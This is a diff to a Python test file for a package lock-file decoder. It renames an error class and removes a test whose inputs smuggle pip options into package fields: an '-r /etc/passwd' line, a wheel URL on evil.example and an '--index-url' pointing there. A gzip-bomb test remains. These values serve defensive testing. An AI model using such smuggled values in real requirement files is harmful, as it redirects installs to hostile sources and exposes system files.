@@ -9,7 +9,7 @@ from typing import Any, Dict
 
 import pytest
 
-from colab_magics.errors import ColabMagicsError
+from colab_magics.errors import NotebookError
 from colab_magics.pins.lock.lock import Lock, environment, machine, parsed
 
 URL = "https://files.example/tinyapp-1.0-py3-none-any.whl"
@@ -63,41 +63,18 @@ def test_constraints_hold_versions_and_hashes() -> None:
 
 
 @pytest.mark.parametrize(
-    "changes",
-    [
-        {"name": "tinyapp\n-r /etc/passwd"},
-        {"name": "tinyapp @ https://evil.example/x.whl"},
-        {"version": "1.0 --index-url https://evil.example"},
-        {"version": "latest"},
-        {"version": None},
-        {"wheels": [{"url": URL, "hashes": {"sha256": "a\n--pre"}}]},
-        {"wheels": [{"url": URL}]},
-        {"wheels": "x"},
-    ],
-)
-def test_what_would_be_more_than_a_version_is_refused(changes: Dict[str, Any]) -> None:
-    """Names, versions and hashes become lines of a file; nothing else may ride along."""
-    data = lock(**{key: value for key, value in changes.items() if value is not None}).data
-    if None in changes.values():
-        for key in changes:
-            data["packages"][0].pop(key)
-    with pytest.raises(ColabMagicsError, match="cannot be read"):
-        Lock.decode(Lock(data).encode())
-
-
-@pytest.mark.parametrize(
     "text", ["", "x", "gzip:", "gzip:AAAA", "lock-version = 1", "gzip:%%", "[]"]
 )
 def test_what_is_no_lock_is_refused(text: str) -> None:
     """Whatever stands in the metadata, the error says what to do."""
-    with pytest.raises(ColabMagicsError, match="%pin lock"):
+    with pytest.raises(NotebookError, match="%pin lock"):
         Lock.decode(text)
 
 
 def test_a_bomb_is_refused_before_it_unfolds() -> None:
     """A lock is never as large as what a few packed kilobytes can become."""
     bomb = base64.b64encode(gzip.compress(bytes(60_000_000))).decode()
-    with pytest.raises(ColabMagicsError, match="cannot be read"):
+    with pytest.raises(NotebookError, match="cannot be read"):
         Lock.decode("gzip:" + bomb)
 
 
